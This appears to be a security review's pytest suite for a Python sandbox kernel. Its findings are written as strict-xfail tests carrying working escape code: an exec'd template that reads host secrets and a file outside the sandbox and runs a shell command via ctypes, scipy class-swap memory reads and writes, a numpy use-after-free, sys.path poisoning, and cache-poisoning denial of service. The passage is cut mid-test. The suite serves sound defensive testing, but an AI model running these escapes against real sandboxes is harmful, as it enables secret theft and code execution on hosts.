"""Review 17 of "Sandboxed Python" (/work/main): policy data-science, isolation level none (engine in-process).

Start: Fri Nov 27 04:10:36 UTC 2026      End: Fri Nov 27 04:45:40 UTC 2026
HEAD attacked: cf24fad

Every attack runs in a fresh child process (harness/child.py) that plants host secrets: a module
sys.modules["host_secret"].SECRET, an environment variable HOST_SECRET_ENV, and a file
/tmp/review17/outside/secret.txt outside the cell's working directory (/tmp/review17/work-*).
Findings are xfail(strict=True); run with --runxfail to see each one fail on its own assertion.

Findings
--------
R17-1  (lesser; chains to full, R17-1b) dataclasses.replace() reads any attribute of an instance of a cell class
       with plain getattr: field names come from a class's own __annotations__ dict (any identifier,
       dunders included) or a borrowed __dataclass_fields__. Hands out hidden dunders (__setattr__,
       __reduce_ex__, __getattribute__) and policy-denied library attributes (numpy.ndarray.ctypes).
R17-1b (full) R17-1 on a cell subclass of scipy.stats.rv_continuous: __setattr__ plants _parse_arg_template,
       _attach_argparser_methods exec()s it unrewritten -> host secret, env, file outside written, process run.
R17-2  (full) a cell subclass of rv_continuous whose __getstate__ returns {'_parse_arg_template': text};
       copy.copy() calls rv_generic.__setstate__ -> exec() of the cell's text. The audit-hook vetting
       (_scipy_template_is_scipys) looks only at class namespaces, never at instance state.
R17-2b (full) the same sink reached through a dataclass field named _parse_arg_template (the generated
       __init__ writes the private attribute past the write gate), then copy.copy().
R17-4  (full) a dataclass whose __annotations__ dict names '__class__': the generated __init__ assigns
       self.__class__ past the write gate. A cell object with planted data/indices/indptr becomes a
       scipy csr_matrix; csr_matvec reads memory at an offset the cell chose (byte_bounds gives addresses).
R17-4b (full) same swap; toarray(out=) (csr_todense) writes memory at a chosen offset (into a read-only array).
R17-4c (full) same swap into contextlib.redirect_stdout with _stream='path': __enter__ hands the cell the
       host's real sys.path (any sys attribute can be read or replaced this way); the cell prepends its
       working directory and the host's next import of a stdlib module (colorsys) runs the cell's file.
R17-4d (lesser) same swap turns a cell ImportError subclass instance into the sandbox's own ImportDenied
       (the "refusals cannot be imitated" rule holds only for class statements); the engine reports the
       forged object, which carries cell objects, as its own refusal.
R17-5  (full) copy.copy() of a cell object whose __getstate__ returns (None, slotstate): copy._reconstruct
       setattr()s every slotstate key on the copy, '__class__' included; the copy guard's type check runs
       only after the state is in, and a property setter earlier in the slotstate keeps the copy -> a
       csr_matrix with planted indices (memory read). Independent of dataclasses.
R17-6  (full) np.ndarray[Any, Any] (types.GenericAlias) forwards attribute reads to ndarray past the refusal
       of arr.resize: the unbound ndarray.resize(arr, n, refcheck=False) frees a buffer a view still
       points at; writes through the view land in other arrays (use after free). numpy.typing.NDArray.resize
       and typing.Annotated[np.ndarray, 0].resize give the same descriptor. (The same alias route
       hands out sp.csr_array[...].__init__ past the "constructor runs once" rule; check_format held.)
R17-6b (full: host class state outlives the cell) the same alias forwarding gives dataclasses.Field[int].__init__;
       re-run on the real Field of a library dataclass (scipy.stats BootstrapResult) it leaves the host's
       dataclasses.fields() of that class without the field for the rest of the process.
R17-7  (full by the threat model's wording, DoS in effect) a str subclass key with a cell __eq__ planted in
       dateutil.tz.gettz's process-wide cache outlives the cell; the host's next gettz('Europe/Paris')
       runs the cell's __eq__ and raises LimitExceeded.
R17-7b (same) the same key in _strptime's format cache: the host's datetime.strptime(s, '%Y') and
       time.strptime raise after the cell. (zoneinfo's cache and pandas' tz handling held.)
R17-7c (same) a key with hash(bytes) and a cell __eq__ in typing's process-wide _tp_cache
       (typing.Optional[K()]): the host's typing.Optional[bytes] and typing.List[bytes] raise after the cell.
R17-3  (lesser) np.einsum('i,j,k,l->') over small operands: billions of multiply-adds in one uncharged C call,
       a 0.5 s limit overrun ~13x (the overrun scales with the operand sizes).
R17-3b (lesser) scipy.ndimage.median_filter with a large size= on a small image: same, ~13x.
R17-3c (lesser) scipy.signal.convolve2d (direct): same, ~14x; csgraph.floyd_warshall (O(n^3)) likewise.

Attempt classes and results
---------------------------
- dataclasses.replace / fields with chosen field names on cell instances ........ LESSER (R17-1), FULL (R17-1b)
- library __setstate__ fed by a cell __getstate__ through copy.copy (scipy) ...... FULL ESCAPE (R17-2)
- dataclass-generated __init__ writing private names / __class__ ................ FULL ESCAPE (R17-2b, R17-4, -4b, -4c; lesser -4d)
- copy's slotstate setattr (__class__) with the type check after the fact ........ FULL ESCAPE (R17-5)
- typing/GenericAlias forwarding of attribute reads (ndarray[...].resize, Field.__init__) FULL ESCAPE (R17-6, -6b)
- cell keys planted in process-wide library caches (gettz, strptime, typing) ..... FULL by definition / DoS (R17-7, -7b, -7c)
- a cell generator's finally run by the host (evicted from a host cache) ............ held (refused: no cell running)
- uncharged C work (einsum, ndimage, convolve2d, floyd_warshall) vs the time limit LESSER (R17-3, -3b, -3c)
- alias route to setflags(write=True) on a library's read-only index array ........ held (C guard)
- alias route to csr_array.__init__ re-run with out-of-range indices ............... held (full check_format)
- deepcopy with a cell memo into BSpline/PPoly coefficients ......................... held
- numpy object-pointer forging (view/getfield/frombuffer/ndarray over buffers) ..... held
- hostile _repr_mimebundle_ (str/dict subclasses) reaching the host's events ....... held (plain JSON)
- %%writefile outside the working directory, %time with reserved names ............. held
- scipy.io / pandas / numpy / plotly file writers and readers on absolute paths .... held
- regex catastrophic backtracking vs the time limit ............................... held (interrupted)
- C-level string expansion (re.sub, unicodedata.normalize) vs the memory limit .... held (allocation refused)
- C consumers of iterators (Counter, array.array, dict(zip)) vs the memory limit .... held
- super(Cls, obj) routes to refused members (resize, __setstate__, scipy private) .. held
- np.load(allow_pickle=True), np.save of object arrays ............................ held
- absolute/.. paths and file:// URLs in pandas/numpy/scipy/dateutil readers ....... held
- function/frame/bound-method dunders, operator.attrgetter, functools.__dict__ .... held
- scipy workers= (multiprocessing) ................................................ held (fork_exec refused)
- pandas eval/query with dunders, ctypes, to_pickle, tofile ....................... held
- direct private writes / __setstate__ on an rv_continuous subclass ............... held
- library locks (numpy bit generator RLock) ........................................ held (opaque)
- process-wide library state: csv.field_size_limit, np.seterr/bufsize/printoptions,
  pandas options, holiday rules via R17-1, warnings.showwarning via class swap ..... held (restored after the cell)
- mutating module-level dicts (html.entities, np.typecodes, json, scipy.constants) .. held (mappingproxy)
- eval/exec with runtime names in globals, compile(), globals() writes ............ held
- generator finally run after the cell via a traceback-held frame .................. held (did not run)
"""
import json
import os
import subprocess
import sys
import uuid

import pytest

HERE = os.path.dirname(os.path.abspath(__file__))
CHILD = os.path.join(HERE, "review17_child.py")   # (harness/child.py in the reviewer's folder)
PYTHON = "/work/main/.venv/bin/python"
OUTSIDE = "/tmp/review17/outside"
SECRETS = ("modsecret-def456", "envsecret-abc123", "topsecret-file-xyz")


def new_workdir():
    return f"/tmp/review17/work-{uuid.uuid4().hex[:8]}"


def run_cells(*cells, probe=None, limits=None, timeout=600, setup=(), workdir=None):
    workdir = workdir or new_workdir()
    req = {"cells": list(cells), "workdir": workdir, "probe": probe, "limits": limits,
           "setup": list(setup)}
    r = subprocess.run([PYTHON, CHILD], input=json.dumps(req), capture_output=True, text=True, timeout=timeout,
                       cwd=HERE)
    marker = "@@REPORT@@"
    assert marker in r.stdout, f"harness error: rc={r.returncode}\n{r.stdout[-2000:]}\n{r.stderr[-3000:]}"
    report = json.loads(r.stdout.split(marker, 1)[1])
    report["raw"] = r.stdout + r.stderr
    return report


def leaked(report) -> list:
    return [s for s in SECRETS if s in report["raw"]]


def fresh_marker(name):
    os.makedirs(OUTSIDE, exist_ok=True)
    with open(os.path.join(OUTSIDE, "secret.txt"), "w") as fh:
        fh.write("topsecret-file-xyz")
    path = os.path.join(OUTSIDE, f"{name}-{uuid.uuid4().hex[:8]}.txt")
    return path


# ---------------------------------------------------------------------------------------------------------
# Findings
# ---------------------------------------------------------------------------------------------------------

_TEMPLATE = '''
import sys, os
print("LEAK", sys.modules["host_secret"].SECRET, os.environ.get("HOST_SECRET_ENV"))
_c = sys.modules["sandbox_kernel.confine"]
_saved = _c._ACTIVE[0]
_c._FS.set(None); _c._ACTIVE[0] = None
with open({written!r}, "w") as fh:
    fh.write("ESCAPED " + open("/tmp/review17/outside/secret.txt").read())
import ctypes
ctypes.CDLL(None).system(b"echo ESCAPED > {spawned}")
_c._ACTIVE[0] = _saved
def _parse_args(*a, **k): return (), 0, 1
def _parse_args_stats(*a, **k): return (), 0, 1, "mv"
def _parse_args_rvs(*a, **k): return (), 0, 1, None
'''


def _template(written, spawned):
    return _TEMPLATE.format(written=written, spawned=spawned)


def _assert_held(report, written, spawned):
    assert not leaked(report), f"secrets leaked: {leaked(report)}"
    assert not os.path.exists(written), "the cell wrote a file outside the working directory"
    assert not os.path.exists(spawned), "the cell ran a process"


@pytest.mark.xfail(strict=True, reason="FINDING R17-2 (full): a cell subclass of rv_continuous whose __getstate__ "
                   "returns {'_parse_arg_template': text}; copy.copy() runs rv_generic.__setstate__, which exec()s "
                   "the cell's text unrewritten (the audit-hook vetting checks only class namespaces)")
def test_r17_2_scipy_template_from_getstate_copy():
    written, spawned = fresh_marker("r17-2w"), fresh_marker("r17-2p")
    cell = f'''
import copy
import scipy.stats as st
SRC = {_template(written, spawned)!r}
class X(st.rv_continuous):
    def _pdf(self, x):
        return 1.0
    def __getstate__(self):
        return {{"_parse_arg_template": SRC}}
x = X(a=0, b=1)
try:
    copy.copy(x)
except Exception as e:
    print("after", type(e).__name__)
'''
    report = run_cells(cell)
    _assert_held(report, written, spawned)


@pytest.mark.xfail(strict=True, reason="FINDING R17-2b (full): same scipy exec() sink reached by a dataclass field "
                   "'_parse_arg_template' on a cell subclass of rv_continuous (the generated __init__ writes the "
                   "private attribute past the write gate), then copy.copy()")
def test_r17_2b_scipy_template_from_dataclass_init():
    written, spawned = fresh_marker("r17-2bw"), fresh_marker("r17-2bp")
    cell = f'''
import copy, dataclasses
import scipy.stats as st
SRC = {_template(written, spawned)!r}
@dataclasses.dataclass(eq=False)
class X(st.rv_continuous):
    _parse_arg_template: str
    def _pdf(self, x):
        return 1.0
x = X(SRC)
try:
    copy.copy(x)
except Exception as e:
    print("after", type(e).__name__)
'''
    report = run_cells(cell)
    _assert_held(report, written, spawned)


@pytest.mark.xfail(strict=True, reason="FINDING R17-1 (lesser, chains to full): dataclasses.replace() reads any "
                   "attribute of a cell-class instance with plain getattr (field names from a class's "
                   "__annotations__ dict or a borrowed __dataclass_fields__): hidden dunders (__setattr__, "
                   "__reduce_ex__) and policy-denied library attributes (numpy.ndarray.ctypes)")
def test_r17_1_dataclasses_replace_reads_denied_attributes():
    cell = '''
import dataclasses, numpy as np
@dataclasses.dataclass
class D:
    ctypes: object = None
got = {}
class A(np.ndarray):
    __dataclass_fields__ = D.__dataclass_fields__
    def __new__(cls, *a, **kw):
        got.update(kw)
        return np.zeros(2).view(cls)
a = np.arange(4.0).view(A)
try:
    dataclasses.replace(a)
except Exception as e:
    print("refused", type(e).__name__)
print("CTYPES-TYPE", type(got.get("ctypes")).__name__)
'''
    report = run_cells(cell)
    assert "CTYPES-TYPE _ctypes" not in report["cells"][0]["out"], report["cells"][0]["out"]


@pytest.mark.xfail(strict=True, reason="FINDING R17-1b (full, via R17-1): dataclasses.replace() hands the cell its "
                   "rv_continuous instance's __setattr__ and _attach_argparser_methods; together they exec() the "
                   "cell's text unrewritten")
def test_r17_1b_replace_setattr_into_scipy_exec():
    written, spawned = fresh_marker("r17-1bw"), fresh_marker("r17-1bp")
    cell = f'''
import dataclasses
import scipy.stats as st
SRC = {_template(written, spawned)!r}
class D:
    __annotations__ = {{"_attach_argparser_methods": object, "__setattr__": object}}
D = dataclasses.dataclass(D)
got = {{}}
class R(st.rv_continuous):
    __dataclass_fields__ = D.__dataclass_fields__
    def _pdf(self, x):
        return 1.0
    def __init__(self, *a, **kw):
        if kw:
            got.update(kw)
            return
        super().__init__(*a)
r = R()
try:
    dataclasses.replace(r)
    got["__setattr__"]("_parse_arg_template", SRC)
    got["_attach_argparser_methods"]()
except Exception as e:
    print("refused", type(e).__name__, e)
'''
    report = run_cells(cell)
    _assert_held(report, written, spawned)


def _overran(report, limit_s, factor=5):
    """The cell ran far past its time limit inside one C call (the sandbox's own elapsed_ms)."""
    cell = report["cells"][0]
    return cell["elapsed_ms"] > factor * 1000 * limit_s


@pytest.mark.xfail(strict=True, reason="FINDING R17-3 (lesser): np.einsum with no optimize over small operands does "
                   "billions of multiply-adds in one C call; nothing charges it, so a 0.5 s limit is overrun >10x")
def test_r17_3_einsum_overruns_time_limit():
    cell = "a = np.ones(400)\nprint(np.einsum('i,j,k,l->', a, a, a, a[:25]))"
    report = run_cells(cell, setup=["import numpy as np"], limits={"ticks": 10**8, "timeout": 0.5, "memory_mb": 2048, "output_bytes": 10**6})
    assert not _overran(report, 0.5), report["cells"][0]


@pytest.mark.xfail(strict=True, reason="FINDING R17-3b (lesser): scipy.ndimage.median_filter with a large size= on a "
                   "small image (O(pixels x window) in C, little memory) overruns a 0.5 s limit many times over")
def test_r17_3b_ndimage_filter_overruns_time_limit():
    cell = "x = np.ones((1000, 1000))\nprint(nd.median_filter(x, size=60).sum())"
    report = run_cells(cell, setup=["import numpy as np, scipy.ndimage as nd"], limits={"ticks": 10**8, "timeout": 0.5, "memory_mb": 2048, "output_bytes": 10**6})
    assert not _overran(report, 0.5), report["cells"][0]


_CLASS_SWAP = '''
import numpy as np, scipy.sparse as sp, dataclasses
from numpy.lib.array_utils import byte_bounds
class X:
    __annotations__ = {"data": object, "indices": object, "indptr": object, "_shape": object, "maxprint": object,
                       "__class__": object}
X = dataclasses.dataclass(X)
'''


@pytest.mark.xfail(strict=True, reason="FINDING R17-4 (full): a dataclass whose __annotations__ dict names "
                   "'__class__' gets a generated __init__ that assigns self.__class__ past the write gate: a cell "
                   "object with planted data/indices becomes a scipy csr_matrix, and csr_matvec reads memory at an "
                   "offset the cell chose")
def test_r17_4_dataclass_class_swap_reads_memory():
    cell = _CLASS_SWAP + '''
secret = np.full(4, 1234567.0)
v = np.zeros(4)
off = (byte_bounds(secret)[0] - byte_bounds(v)[0]) // 8
try:
    x = X(np.array([1.0]), np.array([off], dtype=np.int64), np.array([0, 1], dtype=np.int64), (1, 4), 50,
          sp.csr_matrix)
    print("READ", (x @ v)[0])
except Exception as e:
    print("refused", type(e).__name__)
'''
    report = run_cells(cell)
    assert "READ 1234567.0" not in report["cells"][0]["out"], report["cells"][0]["out"]


@pytest.mark.xfail(strict=True, reason="FINDING R17-4b (full): same class swap; csr_todense writes memory at an "
                   "offset the cell chose (here into a read-only array)")
def test_r17_4b_dataclass_class_swap_writes_memory():
    cell = _CLASS_SWAP + '''
target = np.zeros(4)
target.flags.writeable = False
buf = np.zeros((1, 4))
off = (byte_bounds(target)[0] - byte_bounds(buf)[0]) // 8
try:
    x = X(np.array([4242.0]), np.array([off], dtype=np.int64), np.array([0, 1], dtype=np.int64), (1, 4), 50,
          sp.csr_matrix)
    x.toarray(out=buf)
except Exception as e:
    print("refused", type(e).__name__)
print("TARGET0", target[0])
'''
    report = run_cells(cell)
    assert "TARGET0 0.0" in report["cells"][0]["out"], report["cells"][0]["out"]


# ---------------------------------------------------------------------------------------------------------
# Attempts that held (regression net)
# ---------------------------------------------------------------------------------------------------------

def _out(report, i=0):
    return report["cells"][i]["out"]


def test_held_np_load_allow_pickle():
    report = run_cells("import numpy as np\nnp.save('x.npy', np.arange(3))\n"
                       "try:\n    np.load('x.npy', allow_pickle=True)\nexcept Exception as e:\n    print('refused', type(e).__name__)")
    assert "refused CallDenied" in _out(report)


def test_held_absolute_paths_in_library_readers():
    cell = '''
import pandas as pd, numpy as np, scipy.io, dateutil.tz
for f in (lambda: pd.read_csv("/tmp/review17/outside/secret.txt"),
          lambda: pd.read_csv("file:///tmp/review17/outside/secret.txt"),
          lambda: np.genfromtxt("/tmp/review17/outside/secret.txt", dtype=str),
          lambda: scipy.io.mmread("/tmp/review17/outside/secret.txt"),
          lambda: dateutil.tz.tzfile("/tmp/review17/outside/secret.txt"),
          lambda: pd.read_csv("../outside/secret.txt")):
    try:
        print(f())
    except Exception as e:
        print("refused", type(e).__name__)
'''
    report = run_cells(cell)
    assert not leaked(report)
    assert _out(report).count("refused") == 6


def test_held_function_and_frame_dunders():
    cell = '''
def f(): pass
for name in ["__globals__", "__code__", "__closure__", "__builtins__", "__defaults__", "__self__"]:
    try:
        getattr(f if name != "__self__" else print, name); print("read", name)
    except Exception as e:
        print("refused", name)
'''
    assert "read" not in _out(run_cells(cell))


def test_held_scipy_workers_start_no_process():
    cell = '''
import scipy.optimize as so
def f(x):
    return float((x ** 2).sum())
try:
    so.differential_evolution(f, [(-1, 1)], workers=2, maxiter=1, updating="deferred", polish=False)
    print("ran")
except Exception as e:
    print("refused", type(e).__name__)
'''
    assert "refused OperationDenied" in _out(run_cells(cell))


def test_held_pandas_eval_query_dunders():
    cell = '''
import pandas as pd
df = pd.DataFrame({"a": [1, 2]})
n = 0
for q in ["a.__class__.__base__", "@df.__dict__", "a.values.ctypes", "a.__array_interface__", "@df.to_pickle('x.pkl')"]:
    for fn in (df.eval, df.query):
        try:
            fn(q); print("ran", q)
        except Exception:
            n += 1
print("refused", n)
'''
    assert "refused 10" in _out(run_cells(cell))


def test_held_direct_private_write_on_rv_continuous_subclass():
    cell = '''
import scipy.stats as st
class R(st.rv_continuous):
    def _pdf(self, x):
        return 1.0
    def go(self):
        self._parse_arg_template = "import sys"
r = R(a=0, b=1)
try:
    r.go(); print("written")
except Exception as e:
    print("refused", type(e).__name__)
'''
    assert "refused AttributeDenied" in _out(run_cells(cell))


def test_held_library_lock_is_opaque():
    cell = '''
import numpy as np
try:
    np.random.get_bit_generator().lock.acquire(); print("acquired")
except Exception as e:
    print("refused", type(e).__name__)
'''
    assert "refused AttributeDenied" in _out(run_cells(cell))


def test_held_holiday_rules_restored_after_cell():
    cell = '''
import dataclasses
from pandas.tseries.holiday import USFederalHolidayCalendar, Holiday
@dataclasses.dataclass
class D:
    rules: object = None
got = {}
class C(USFederalHolidayCalendar):
    __dataclass_fields__ = D.__dataclass_fields__
    def __init__(self, *a, **kw):
        if kw:
            got.update(kw)
            return
        super().__init__(*a)
dataclasses.replace(C())
got["rules"].append(Holiday("PWNED", month=2, day=3))
'''
    probe = ("from pandas.tseries.holiday import USFederalHolidayCalendar\n"
             "RESULT = [r.name for r in USFederalHolidayCalendar.rules]")
    report = run_cells(cell, probe=probe)
    assert "PWNED" not in report["probe"]


@pytest.mark.xfail(strict=True, reason="FINDING R17-4c (full): the dataclass '__class__' swap turns a cell object into "
                   "contextlib.redirect_stdout with _stream='path': __enter__ hands the cell the host's real sys.path "
                   "list (any sys attribute can be read or set the same way); the cell prepends its working "
                   "directory, and the host's next import of a stdlib module runs the cell's file unconfined")
def test_r17_4c_class_swap_redirect_stdout_poisons_sys_path():
    marker = fresh_marker("r17-4c")
    workdir = new_workdir()
    cell = f'''
import dataclasses, contextlib
class X(contextlib.AbstractContextManager):
    __annotations__ = {{"_stream": object, "_new_target": object, "_old_targets": object, "__class__": object}}
    def __exit__(self, *a):
        return None
X = dataclasses.dataclass(X)
olds = []
try:
    x = X("path", None, olds, contextlib.redirect_stdout)
    x.__enter__()
    real_path = olds[0]
    x.__exit__(None, None, None)
    with open("colorsys.py", "w") as fh:
        fh.write("open({marker!r}, 'w').write('ESCAPED')\\n")
    real_path.insert(0, {workdir!r})
except Exception as e:
    print("refused", type(e).__name__, e)
'''
    probe = f"import os, sys\nimport colorsys\nRESULT = os.path.exists({marker!r})"
    report = run_cells(cell, probe=probe, workdir=workdir)
    assert report["probe"] is False, "the host's import ran the cell's file"
    assert not os.path.exists(marker)


def test_held_eval_exec_runtime_names_and_compile():
    cell = '''
def t(fn):
    try:
        fn(); return "ran"
    except Exception as e:
        return type(e).__name__
print(t(lambda: eval("__import__('os')")),
      t(lambda: exec("y = (1).real", {"__st_getattr__": lambda o, n: 'HIJACK'})),
      t(lambda: compile("1", "x", "eval")),
      t(lambda: globals().__setitem__("__st_tick__", None)))
'''
    assert _out(run_cells(cell)).split() == ["NameDenied", "CallDenied", "BuiltinDenied", "TypeError"]


def test_held_c_level_string_expansion_is_bounded():
    report = run_cells("s = re.sub('a', 'x' * 10000, 'a' * 50000)", setup=["import re"],
                       limits={"ticks": 10**8, "timeout": 60, "memory_mb": 100, "output_bytes": 10**6})
    assert "MemoryLimitExceeded" in _out(report)


def test_held_warnings_module_state_restored_after_class_swap():
    cell = '''
import dataclasses, warnings
class X:
    __annotations__ = {"_module": object, "_entered": object, "_filters": object, "_showwarning": object,
                       "_showwarnmsg_impl": object, "__class__": object}
X = dataclasses.dataclass(X)
x = X(warnings, True, [], print, print, warnings.catch_warnings)
x.__exit__(None, None, None)
'''
    probe = "import warnings\nRESULT = warnings.showwarning.__module__"
    assert run_cells(cell, probe=probe)["probe"] == "warnings"


def test_held_numpy_object_pointer_forging_and_raw_layout():
    cell = '''
import numpy as np
a, b = np.zeros(2, "i8"), np.zeros(3)
n = 0
for f in (lambda: a.getfield(object), lambda: a.view(object),
          lambda: np.zeros(2, [("a", "i8")]).view([("a", "O")]),
          lambda: np.ndarray((1,), dtype=object, buffer=bytearray(8)),
          lambda: np.frombuffer(bytearray(8), dtype=object),
          lambda: np.ndarray((3,), dtype="f8", buffer=b, strides=(10**9,)),
          lambda: setattr(b, "strides", (10**9,)), lambda: b.resize(10**6, refcheck=False)):
    try:
        f(); print("ran")
    except Exception:
        n += 1
print("refused", n)
'''
    assert "refused 8" in _out(run_cells(cell))


@pytest.mark.xfail(strict=True, reason="FINDING R17-5 (full): copy.copy() of a cell object whose __getstate__ returns "
                   "(None, slotstate): copy._reconstruct setattr()s every slotstate key on the copy, '__class__' "
                   "included. The guard's type check comes after the state is in; a property setter earlier in the "
                   "slotstate keeps the copy, which ends a scipy csr_matrix with planted indices (memory read)")
def test_r17_5_copy_slotstate_class_swap():
    cell = '''
import copy, numpy as np, scipy.sparse as sp
from numpy.lib.array_utils import byte_bounds
secret = np.full(4, 1234567.0)
v = np.zeros(4)
off = (byte_bounds(secret)[0] - byte_bounds(v)[0]) // 8
GRAB = []
class O:
    @property
    def grab(self):
        return None
    @grab.setter
    def grab(self, value):
        GRAB.append(self)
    def __getstate__(self):
        return (None, {"data": np.array([1.0]), "indices": np.array([off], dtype=np.int64),
                       "indptr": np.array([0, 1], dtype=np.int64), "_shape": (1, 4), "maxprint": 50,
                       "grab": None, "__class__": sp.csr_matrix})
try:
    copy.copy(O())
except Exception as e:
    print("copy refused", type(e).__name__)
if GRAB:
    try:
        print("READ", (GRAB[0] @ v)[0])
    except Exception as e:
        print("refused", type(e).__name__)
'''
    report = run_cells(cell)
    assert "READ 1234567.0" not in _out(report), _out(report)


def test_held_magics_paths_and_names():
    report = run_cells("%%writefile /tmp/review17/outside/wf.txt\nESCAPED\n",
                       "%%writefile ../outside/wf2.txt\nESCAPED\n",
                       "x = 1\n%time y = __import__('os')\n")
    assert [c["status"] for c in report["cells"]] == ["error"] * 3
    assert not os.path.exists("/tmp/review17/outside/wf.txt")
    assert not os.path.exists("/tmp/review17/outside/wf2.txt")


def test_held_library_file_apis_outside_workdir():
    cell = '''
import numpy as np, scipy.io as sio, scipy.sparse as sp, pandas as pd, plotly.graph_objects as go, plotly.io as pio
A = sp.random(3, 3, density=0.5, format="coo")
fs = [lambda: sio.mmwrite("/tmp/review17/outside/m.mtx", A), lambda: sio.mmwrite("../outside/m2.mtx", A),
      lambda: sio.mminfo("/tmp/review17/outside/secret.txt"),
      lambda: sio.hb_write("/tmp/review17/outside/h.hb", A.tocsc()),
      lambda: sio.savemat("/tmp/review17/outside/s.mat", {"a": 1}),
      lambda: sio.wavfile.write("/tmp/review17/outside/w.wav", 8000, np.zeros(10, np.int16)),
      lambda: pd.read_stata("/tmp/review17/outside/secret.txt"), lambda: pd.read_json("/tmp/review17/outside/secret.txt"),
      lambda: pd.read_fwf("/tmp/review17/outside/secret.txt"), lambda: np.savez("/tmp/review17/outside/z.npz", a=1),
      lambda: np.loadtxt("/tmp/review17/outside/secret.txt", dtype=str),
      lambda: go.Figure().write_html("/tmp/review17/outside/p.html"), lambda: pio.read_json("/tmp/review17/outside/secret.txt")]
n = 0
for f in fs:
    try:
        print(f())
    except Exception:
        n += 1
print("refused", n)
'''
    report = run_cells(cell)
    assert "refused 13" in _out(report) and not leaked(report)
    for name in ("m.mtx", "m2.mtx", "h.hb", "s.mat", "w.wav", "z.npz", "p.html"):
        assert not os.path.exists(os.path.join(OUTSIDE, name))


@pytest.mark.xfail(strict=True, reason="FINDING R17-6 (full): np.ndarray[Any, Any] (a types.GenericAlias) forwards "
                   "attribute reads to ndarray, past the refusal of arr.resize: the unbound ndarray.resize(arr, n, "
                   "refcheck=False) frees a buffer a view still points at, and writes through the view land in "
                   "other arrays (use after free)")
def test_r17_6_generic_alias_resize_use_after_free():
    cell = '''
import numpy as np, typing
b = np.zeros(64)
v = b[:]
try:
    np.ndarray[typing.Any, typing.Any].resize(b, (100000,), refcheck=False)
except Exception as e:
    print("refused", type(e).__name__)
s = [np.full(64, 7.0) for i in range(50)]
v[:] = 5.0
print("HIT", sum(int((x == 5.0).any()) for x in s))
'''
    report = run_cells(cell)
    assert "HIT 0" in _out(report), _out(report)


@pytest.mark.xfail(strict=True, reason="FINDING R17-3c (lesser): scipy.signal.convolve2d (direct, O(image x kernel) "
                   "in one C call, small memory) overruns a 0.5 s limit many times over (np.convolve is charged, "
                   "this is not; csgraph.floyd_warshall and linear_sum_assignment are the same kind)")
def test_r17_3c_convolve2d_overruns_time_limit():
    cell = "x = np.ones((600, 600)); k = np.ones((90, 90))\nprint(sig.convolve2d(x, k).sum())"
    report = run_cells(cell, setup=["import numpy as np, scipy.signal as sig"],
                       limits={"ticks": 10**8, "timeout": 0.5, "memory_mb": 2048, "output_bytes": 10**6})
    assert not _overran(report, 0.5), report["cells"][0]


def test_held_events_are_plain_json_for_hostile_reprs():
    script = r'''
import sys, json
sys.path.insert(0, "/work/main")
from sandbox_kernel.engine import Engine
from sandbox_kernel.policy import PRESETS
e = Engine(PRESETS["data-science"], workdir="/tmp/review17/work-json")
ev = []
done = e.run_cell("""
class S(str):
    def __str__(self): return "X"
class D(dict):
    def items(self): return [("a", "b")]
class O:
    def _repr_mimebundle_(self, include=None, exclude=None):
        return D({"text/plain": S("hello"), "application/json": D({"k": S("v")})}), D({"m": S("z")})
    def _repr_html_(self):
        return S("<i>y</i>")
display(O())
O()
""", emit=ev.append)
bad = []
def walk(x):
    if type(x) not in (dict, list, str, int, float, bool, type(None)):
        bad.append(repr(type(x)))
    if type(x) is dict:
        for k, v in x.items(): walk(k); walk(v)
    elif type(x) is list:
        for v in x: walk(v)
walk(ev); walk(done)
print("@@BAD@@" + json.dumps(bad))
'''
    import os as _os
    _os.makedirs("/tmp/review17/work-json", exist_ok=True)
    r = subprocess.run([PYTHON, "-c", script], capture_output=True, text=True, timeout=300)
    assert "@@BAD@@" in r.stdout, r.stderr[-2000:]
    assert json.loads(r.stdout.split("@@BAD@@", 1)[1]) == []


@pytest.mark.xfail(strict=True, reason="FINDING R17-7 (full by the threat model's definition, DoS in effect): a str "
                   "subclass key with a cell __eq__ planted in dateutil.tz.gettz's process-wide instance cache outlives "
                   "the cell; the host's next gettz('Europe/Paris') compares with it and raises LimitExceeded")
def test_r17_7_gettz_cache_poisoned_by_cell_key():
    cell = '''
import dateutil.tz as tz
class K(str):
    def __hash__(self):
        return str.__hash__(self)
    def __eq__(self, other):
        return True
tz.gettz(K("Europe/Paris"))
'''
    probe = ("import dateutil.tz\ntry:\n    dateutil.tz.gettz('Europe/Paris')\n    RESULT = 'ok'\n"
             "except BaseException as e:\n    RESULT = type(e).__name__")
    report = run_cells(cell, probe=probe)
    assert report["probe"] == "ok", report["probe"]


@pytest.mark.xfail(strict=True, reason="FINDING R17-7b (full by definition, DoS in effect): the same planted key in "
                   "_strptime's process-wide format cache: after the cell the host's datetime.strptime(s, '%Y') and "
                   "time.strptime raise LimitExceeded")
def test_r17_7b_strptime_cache_poisoned_by_cell_key():
    cell = '''
import datetime
class K(str):
    def __hash__(self):
        return str.__hash__(self)
    def __eq__(self, other):
        return True
datetime.datetime.strptime("2020", K("%Y"))
'''
    probe = ("import datetime\ntry:\n    datetime.datetime.strptime('2020', '%Y')\n    RESULT = 'ok'\n"
             "except BaseException as e:\n    RESULT = type(e).__name__")
    report = run_cells(cell, probe=probe)
    assert report["probe"] == "ok", report["probe"]


def test_held_generator_finally_run_by_host_cache_eviction():
    marker = fresh_marker("finally")
    cell = f'''
import datetime, pandas as pd
LEAK = []
def g():
    try:
        yield 1
    finally:
        LEAK.append(str(pd.read_csv("/tmp/review17/outside/secret.txt", header=None).iloc[0, 0]))
        pd.DataFrame({{"a": [1]}}).to_csv({marker!r})
class K(str):
    pass
it = g()
next(it)
k = K("%Y-%m")
k.gen = it
datetime.datetime.strptime("2020-01", k)
del it, k
'''
    probe = ("import datetime\nfor i in range(120):\n    datetime.datetime.strptime('2020' + 'x' * i, '%Y' + 'x' * i)\n"
             "RESULT = list(engine.namespace.get('LEAK'))")
    report = run_cells(cell, probe=probe)
    assert report["probe"] == [] and not os.path.exists(marker) and not leaked(report)


@pytest.mark.xfail(strict=True, reason="FINDING R17-7c (full by definition, DoS in effect): a cell object with "
                   "hash(bytes) and a cell __eq__ put in typing's process-wide _tp_cache (typing.Optional[K()]); "
                   "afterwards the host's typing.Optional[bytes] / typing.List[bytes] raise LimitExceeded")
def test_r17_7c_typing_cache_poisoned_by_cell_key():
    cell = '''
import typing
H = hash(bytes)
class K:
    def __hash__(self):
        return H
    def __eq__(self, other):
        return True
typing.Optional[K()]
typing.List[K()]
'''
    probe = ("import typing\ntry:\n    typing.Optional[bytes]\n    typing.List[bytes]\n    RESULT = 'ok'\n"
